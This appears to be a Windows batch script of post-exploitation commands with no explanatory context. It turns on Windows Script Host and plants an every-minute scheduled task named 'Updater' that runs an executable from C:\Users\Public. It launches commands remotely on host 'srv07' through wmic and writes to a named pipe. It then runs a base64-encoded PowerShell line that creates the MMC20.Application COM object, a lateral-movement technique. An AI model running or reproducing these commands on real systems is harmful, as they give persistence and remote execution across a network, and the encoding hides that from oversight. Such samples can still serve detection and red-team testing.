@echo off
reg add "HKCU\Software\Microsoft\Windows Script Host\Settings" /v Enabled /t REG_DWORD /d 1 /f
schtasks /create /tn Updater /tr "C:\Users\Public\u.exe" /sc minute
wmic /node:srv07 process call create "cmd.exe /c whoami"
echo run > \\.\pipe\updsvc
powershell -enc TgBlAHcALQBPAGIAagBlAGMAdAAgAC0AQwBvAG0ATwBiAGoAZQBjAHQAIABNAE0AQwAyADAALgBBAHAAcABsAGkAYwBhAHQAaQBvAG4A
